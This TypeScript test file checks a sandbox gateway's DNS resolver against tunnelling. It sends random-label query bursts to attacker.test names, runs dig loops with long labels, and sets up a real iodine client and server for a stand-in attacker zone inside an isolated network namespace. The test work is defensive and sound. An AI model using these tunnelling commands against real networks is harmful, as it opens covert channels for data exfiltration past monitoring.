// DNS tunnelling: no query from the sandbox ever causes a query upstream, and a real iodine
// tunnel through our resolver never comes up. The test proves its own probes work first (the
// upstream logs the gateway's own lookups; iodine does establish a tunnel when it reaches iodined).
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import dgram from 'node:dgram';
import diagnosticsChannel from 'node:diagnostics_channel';
import { randomBytes } from 'node:crypto';
import net from 'node:net';
import dnsPacket from 'dns-packet';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DNS_QUERY_CHANNEL, type DnsQueryEvent } from '../../gateway/dns/query-events.js';
import type { DnsAdmission } from '../../gateway/dns/responder.js';
import { startDnsServer, type DnsServer } from '../../gateway/dns/server.js';
import { UpstreamResolver } from '../../gateway/dns/upstream-resolver.js';
import { startDnsLogServer, type DnsLogServer } from '../support/dns-log-server.js';
import { curlThroughProxy, startGatewayProcess, type GatewayProcess } from '../support/gateway-process.js';
import { capabilityGate, missingCommand, missingRoot } from '../support/capabilities.js';
import { disposeNetns, sweepStaleNetns } from '../support/netns-upstream.js';
import { JAIL_PATH, srtGwRun } from '../support/srt-gw-run.js';

/** Exact names and "*.zone" wildcards, like a policy's host rules. */
class ListAdmission implements DnsAdmission {
  constructor(readonly patterns: string[]) {}
  couldAllowHost(host: string): boolean {
    return this.patterns.some((p) => (p.startsWith('*.') ? host.endsWith(p.slice(1)) : host === p));
  }
}

const admission = new ListAdmission(['api.allowed.test', '*.allowed.test']);
const tunnelAdmission = new ListAdmission(['api.allowed.test']);
const events: DnsQueryEvent[] = [];
const onEvent = (message: unknown) => events.push(message as DnsQueryEvent);

describe('no sandbox query reaches an upstream DNS server', () => {
  let upstream: DnsLogServer;
  let resolver: UpstreamResolver;
  let server: DnsServer;

  beforeAll(async () => {
    upstream = await startDnsLogServer({ 'api.allowed.test': ['192.0.2.1'], 'x.attacker.test': ['192.0.2.66'] }, { ttl: 300 });
    // The gateway's own resolver exists in the same process and points at the logging upstream.
    resolver = new UpstreamResolver({ dnsServers: [upstream.address], useHostsFile: false });
    server = await startDnsServer({ host: '127.0.0.1', port: 0, admission, rateLimit: false });
  });

  afterAll(async () => {
    await server?.close();
    await upstream?.close();
  });

  it('a burst of attacker and wildcard names over UDP and TCP: the upstream log stays empty', async () => {
    const names: string[] = [];
    for (let i = 0; i < 200; i++) names.push(`${randomBytes(20).toString('hex')}.attacker.test`);
    for (let i = 0; i < 100; i++) {
      const base32ish = randomBytes(30).toString('base64url').toLowerCase().replace(/[^a-z0-9]/g, 'x');
      names.push(`${randomBytes(12).toString('hex')}.allowed.test`, `${base32ish}.deep.allowed.test`);
    }
    const types = ['A', 'AAAA', 'TXT', 'NULL', 'MX', 'CNAME', 'SRV', 'UNKNOWN_65'] as const;

    const socket = dgram.createSocket('udp4');
    let answered = 0;
    socket.on('message', () => answered++);
    await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
    // In batches, so the test's own socket buffers do not drop answers.
    for (let start = 0; start < names.length; start += 50) {
      names.slice(start, start + 50).forEach((name, j) => {
        const type = types[(start + j) % types.length] ?? 'A';
        const query = dnsPacket.encode({ type: 'query', id: start + j, flags: dnsPacket.RECURSION_DESIRED, questions: [{ type: type as 'A', name }] });
        socket.send(query, server.address.udp.port, '127.0.0.1');
      });
      await waitFor(() => answered >= Math.min(names.length, start + 50), 2000);
    }
    const tcp = net.connect(server.address.tcp.port, '127.0.0.1');
    let tcpBytes = 0;
    tcp.on('data', (chunk: Buffer) => (tcpBytes += chunk.length));
    tcp.write(Buffer.concat(names.slice(0, 50).map((name, i) => dnsPacket.streamEncode({ type: 'query', id: i, questions: [{ type: 'TXT', name }] }))));
    await waitFor(() => tcpBytes > 0, 2000);
    socket.close();
    tcp.destroy();

    expect(answered).toBe(names.length);
    expect(tcpBytes).toBeGreaterThan(0);
    // Give a (hypothetical) forwarder time to have asked.
    await new Promise((r) => setTimeout(r, 200));
    expect(upstream.queries).toEqual([]);

    // The probe works: the gateway's own lookup for an allowed host does reach the upstream.
    expect(await resolver.resolve('api.allowed.test')).toEqual([{ address: '192.0.2.1', family: 4 }]);
    const asked = [...upstream.queries].sort((a, b) => a.name.localeCompare(b.name) || a.type.localeCompare(b.type));
    expect(asked).toEqual([
      { name: 'api.allowed.test', type: 'A' },
      { name: 'api.allowed.test', type: 'AAAA' },
    ]);
  });
});

// ---------------------------------------------------------------------------------------------
// A wildcard rule is the one way a name the sandbox makes up reaches an upstream DNS server: the
// gateway resolves it when the program connects. Each wildcard admits 300 distinct names.
describe('a wildcard rule admits at most 300 new names per gateway run', () => {
  const ZONE = 'tunnel.test';
  let upstream: DnsLogServer;
  let gateway: GatewayProcess;

  beforeAll(async () => {
    upstream = await startDnsLogServer({});
    gateway = await startGatewayProcess({
      policyYaml: `version: 1\nrules:\n  - id: wild\n    host: "*.${ZONE}"\n`,
      args: ['--dns', '127.0.0.1:0', '--dns-upstream', upstream.address, '--metrics', '127.0.0.1:0'],
    });
  });

  afterAll(async () => {
    await gateway?.stop();
    await upstream?.close();
  });

  it('the 301st new name is refused by DNS and by the proxy, and never reaches the upstream DNS server', async () => {
    const names = Array.from({ length: 302 }, (_, i) => `${randomBytes(24).toString('hex')}-${i}.${ZONE}`);
    const socket = dgram.createSocket('udp4');
    await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
    const answers = new Map<number, dnsPacket.Packet & { rcode?: string }>();
    socket.on('message', (message) => {
      const packet: dnsPacket.Packet & { rcode?: string } = dnsPacket.decode(message);
      answers.set(packet.id ?? -1, packet);
    });
    const askA = (id: number, name: string) =>
      socket.send(dnsPacket.encode({ type: 'query', id, flags: dnsPacket.RECURSION_DESIRED, questions: [{ type: 'A', name }] }), gateway.dnsPort!, '127.0.0.1');
    // In order, in batches, so "the 301st" is well defined and no answer is lost to a full buffer.
    for (let start = 0; start < 300; start += 50) {
      for (let i = start; i < start + 50; i++) askA(i, names[i]!);
      expect(await waitFor(() => answers.size >= start + 50, 20_000)).toBe(true);
    }
    askA(300, names[300]!);
    expect(await waitFor(() => answers.has(300), 20_000)).toBe(true);
    socket.close();
    const rcodes = [...answers.entries()].sort(([a], [b]) => a - b).map(([, packet]) => packet.rcode);
    expect(rcodes.slice(0, 300).every((rcode) => rcode === 'NOERROR')).toBe(true);
    expect(answers.get(299)?.answers?.[0]).toMatchObject({ type: 'A' });
    expect(answers.get(300)?.rcode).toBe('NXDOMAIN');
    const refusal = await gateway.waitForAudit((line) => line.kind === 'dns' && (line as { reason?: string }).reason !== undefined, 20_000);
    expect((refusal as { reason?: string }).reason).toBe(`rule wild has seen 301 names under *.${ZONE}; the cap is 300 (policy dns.maxNamesPerWildcard)`);

    // The probe works: a name within the cap is looked up upstream when the proxy connects for it.
    await curlThroughProxy(gateway, [`http://${names[5]}/`]);
    expect(upstream.queriedNames()).toContain(names[5]);
    // The 301st, and a 302nd that never went through DNS, are refused before any lookup.
    const overDns = await curlThroughProxy(gateway, [`http://${names[300]}/`]);
    const overProxy = await curlThroughProxy(gateway, [`http://${names[301]}/`]);
    expect(overDns.status).not.toBe(200);
    expect(overProxy.status).not.toBe(200);
    expect(upstream.queriedNames()).not.toContain(names[300]);
    expect(upstream.queriedNames()).not.toContain(names[301]);

    const metrics = await (await fetch(gateway.metricsUrl!)).text();
    expect(metrics).toMatch(/srtgw_dns_wildcard_names_refused_total\{rule="wild"\} 1\b/);
    expect(metrics).toMatch(/srtgw_dns_wildcard_tunnel_signals_total\{rule="wild",signal="long-label"\} 301\b/);
  });
});

const skipJail = capabilityGate(missingRoot(), missingCommand('bwrap'), missingCommand('nft'), missingCommand('ip'), missingCommand('dig'));

describe.skipIf(skipJail)('srt-gw run: the end-of-run summary names a wildcard that hit its cap', () => {
  let dir = '';

  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'srt-gw-dns-cap-run-'));
  });

  afterAll(() => {
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('five long names under a wildcard capped at 3: two refused, one summary line for the rule', async () => {
    const policy = join(dir, 'policy.yaml');
    writeFileSync(policy, 'version: 1\ndns:\n  maxNamesPerWildcard: 3\nrules:\n  - id: wild\n    host: "*.tunnel.test"\n');
    // 45-digit labels: each one "long" (over 40 characters).
    const script = 'for i in 1 2 3 4 5; do dig +short +tries=1 +time=5 "$(printf %045d "$i").tunnel.test" A; echo "rc=$?"; done';
    const result = await srtGwRun({
      flags: ['--policy', policy, '--ca-dir', join(dir, 'ca')],
      command: ['sh', '-c', script],
      cwd: dir,
      env: { PATH: JAIL_PATH, HOME: dir, LANG: 'C.UTF-8', TERM: 'dumb' },
      timeoutMs: 120_000,
    });
    expect(result.code, result.stderr).toBe(0);
    // Three synthetic addresses, then two names refused (dig prints no address for NXDOMAIN).
    expect(result.stdout.match(/^198\.1[89]\.\d+\.\d+$/gm)).toHaveLength(3);
    expect(result.stderr).toContain('srt-gw: names under wildcard rules (each new name costs an upstream DNS lookup):\n');
    expect(result.stderr).toContain('  *.tunnel.test: 5 distinct names, 5 with long labels — possible DNS tunnel; capped at 3  [wild]\n');
    // The refused names are summed up in that line, not listed one by one.
    expect(result.stderr).not.toContain('00004.tunnel.test');
  });
});

// ---------------------------------------------------------------------------------------------
// A real iodine tunnel attempt, isolated in a network namespace this test creates:
//   netns: lo (iodined on 127.0.0.1:53, authoritative for t.attacker.test), veth 198.51.100.x+2,
//          nft DNAT of port 53 towards our server; iodine client.
//   host:  veth 198.51.100.x+1 with our DNS server on it.
const skipTunnel = capabilityGate(
  missingRoot(),
  missingCommand('ip'),
  missingCommand('nft'),
  missingCommand('iodine'),
  missingCommand('iodined'),
);

const NS_PREFIX = 'srtgw-dnstest';
const NS = `${NS_PREFIX}-${process.pid}`;
const subnet = (process.pid % 60) * 4; // a /30 inside TEST-NET-2 (198.51.100.0/24), never routed
const HOST_IP = `198.51.100.${subnet + 1}`;
const NS_IP = `198.51.100.${subnet + 2}`;
const VETH_HOST = `sgd${process.pid % 1_000_000}h`;
const VETH_NS = `sgd${process.pid % 1_000_000}n`;
const TOPDOMAIN = 't.attacker.test';
const PASSWORD = 'testpass';

function sh(command: string, args: string[]): string {
  return execFileSync(command, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
}

function inNs(args: string[]): string {
  return sh('ip', ['netns', 'exec', NS, ...args]);
}

interface Spawned {
  child: ChildProcess;
  output: () => string;
  exited: Promise<number | null>;
}

function spawnInNs(args: string[]): Spawned {
  const child = spawn('ip', ['netns', 'exec', NS, ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
  let text = '';
  child.stdout?.on('data', (chunk: Buffer) => (text += chunk.toString('latin1')));
  child.stderr?.on('data', (chunk: Buffer) => (text += chunk.toString('latin1')));
  const exited = new Promise<number | null>((resolve) => child.on('exit', (code) => resolve(code)));
  return { child, output: () => text, exited };
}

async function stop(process_: Spawned | undefined): Promise<void> {
  if (!process_ || process_.child.exitCode !== null || process_.child.signalCode !== null) return;
  process_.child.kill('SIGTERM');
  const timer = setTimeout(() => process_.child.kill('SIGKILL'), 2000);
  await process_.exited;
  clearTimeout(timer);
}

/** IPv4 addresses on the named device inside the netns ("" when it has none or does not exist). */
function ipv4Of(device: string): string {
  try {
    return inNs(['ip', '-4', '-o', 'addr', 'show', 'dev', device]);
  } catch {
    return '';
  }
}

async function waitFor(check: () => boolean, ms: number): Promise<boolean> {
  for (let waited = 0; waited < ms; waited += 100) {
    if (check()) return true;
    await new Promise((r) => setTimeout(r, 100));
  }
  return check();
}

describe.skipIf(skipTunnel)('a real iodine tunnel through our resolver', () => {
  let server: DnsServer | undefined;
  let iodined: Spawned | undefined;
  let client: Spawned | undefined;

  beforeAll(async () => {
    sweepStaleNetns(NS_PREFIX);
    disposeNetns(NS);
    sh('ip', ['netns', 'add', NS]);
    inNs(['ip', 'link', 'set', 'lo', 'up']);
    sh('ip', ['link', 'add', VETH_HOST, 'type', 'veth', 'peer', 'name', VETH_NS]);
    sh('ip', ['link', 'set', VETH_NS, 'netns', NS]);
    sh('ip', ['addr', 'add', `${HOST_IP}/30`, 'dev', VETH_HOST]);
    sh('ip', ['link', 'set', VETH_HOST, 'up']);
    inNs(['ip', 'addr', 'add', `${NS_IP}/30`, 'dev', VETH_NS]);
    inNs(['ip', 'link', 'set', VETH_NS, 'up']);

    diagnosticsChannel.subscribe(DNS_QUERY_CHANNEL, onEvent);
    server = await startDnsServer({ host: HOST_IP, port: 0, admission: tunnelAdmission });
    // iodine always talks to port 53: the netns sends it to our server, as the jail's nftables will.
    const port = String(server.address.udp.port);
    inNs(['nft', 'add', 'table', 'ip', 'srtgw']);
    inNs(['nft', 'add', 'chain', 'ip', 'srtgw', 'out', '{ type nat hook output priority -100; }']);
    inNs(['nft', 'add', 'rule', 'ip', 'srtgw', 'out', 'ip', 'daddr', HOST_IP, 'udp', 'dport', '53', 'dnat', 'to', `${HOST_IP}:${port}`]);
    inNs(['nft', 'add', 'rule', 'ip', 'srtgw', 'out', 'ip', 'daddr', HOST_IP, 'tcp', 'dport', '53', 'dnat', 'to', `${HOST_IP}:${port}`]);

    // The attacker's authoritative server for t.attacker.test, on the netns loopback.
    iodined = spawnInNs(['iodined', '-f', '-c', '-DD', '-P', PASSWORD, '-l', '127.0.0.1', '-p', '53', '-d', 'sgdsrv0', '10.99.0.1', TOPDOMAIN]);
    const listening = await waitFor(() => iodined?.output().includes('Listening to dns') === true, 5000);
    if (!listening) throw new Error(`iodined did not start:\n${iodined.output()}`);
  });

  afterAll(async () => {
    diagnosticsChannel.unsubscribe(DNS_QUERY_CHANNEL, onEvent);
    await stop(client);
    await stop(iodined);
    await server?.close();
    disposeNetns(NS); // also removes the veth pair
  });

  it('control: iodine reaching iodined directly does establish a tunnel (the probe can see one)', async () => {
    client = spawnInNs(['iodine', '-f', '-r', '-P', PASSWORD, '-d', 'sgdcli0', '127.0.0.1', TOPDOMAIN]);
    const up = await waitFor(() => client?.output().includes('Connection setup complete') === true, 15_000);
    expect(up, client.output()).toBe(true);
    expect(ipv4Of('sgdcli0')).toContain('10.99.0.');
    await stop(client);
    client = undefined;
  });

  it.each([
    { zone: 'denied', admit: false, args: [] as string[], device: 'sgdcli1' },
    // Even if a policy's wildcard covered the attacker's zone, the answers carry no payload.
    { zone: 'admitted by a wildcard', admit: true, args: [] as string[], device: 'sgdcli2' },
    { zone: 'admitted by a wildcard', admit: true, args: ['-T', 'A'], device: 'sgdcli3' },
    { zone: 'admitted by a wildcard', admit: true, args: ['-T', 'TXT'], device: 'sgdcli4' },
  ])('iodine $args through our resolver, attacker zone $zone: no tunnel, iodined hears nothing', async ({ admit, args, device }) => {
    tunnelAdmission.patterns.length = 0;
    tunnelAdmission.patterns.push('api.allowed.test', ...(admit ? [`*.${TOPDOMAIN}`] : []));
    const iodinedQueriesBefore = (iodined?.output().match(/^RX: /gm) ?? []).length;
    events.length = 0;
    client = spawnInNs(['iodine', '-f', '-r', '-P', PASSWORD, ...args, '-d', device, HOST_IP, TOPDOMAIN]);
    const gaveUp = await Promise.race([client.exited.then(() => true), new Promise<boolean>((r) => setTimeout(() => r(false), 10_000))]);
    const output = client.output();
    await stop(client);
    client = undefined;

    expect(output).not.toContain('Connection setup complete');
    expect(output).not.toMatch(/Server tunnel IP is/);
    expect(ipv4Of(device)).toBe(''); // the tun device never got a tunnel address
    // iodine did reach us, with names under the attacker zone, and got nothing it could use.
    const fromNs = events.filter((e) => e.client === NS_IP);
    expect(fromNs.length).toBeGreaterThan(0);
    const expected = admit ? ['synthetic', 'nodata', 'rate-limited'] : ['denied', 'rate-limited'];
    expect(fromNs.filter((e) => !expected.includes(e.decision))).toEqual([]);
    // The attacker's authoritative server heard nothing.
    expect((iodined?.output().match(/^RX: /gm) ?? []).length).toBe(iodinedQueriesBefore);
    const decisions = [...new Set(fromNs.map((e) => e.decision))].join('/');
    const last = output.trim().split('\n').at(-1) ?? '';
    const how = gaveUp ? 'gave up' : 'stopped after 10 s';
    process.stderr.write(`[dns-tunnel] iodine ${args.join(' ') || '(autodetect)'}: ${how}; ${fromNs.length} queries answered ${decisions}; ${last}\n`);
  });
});
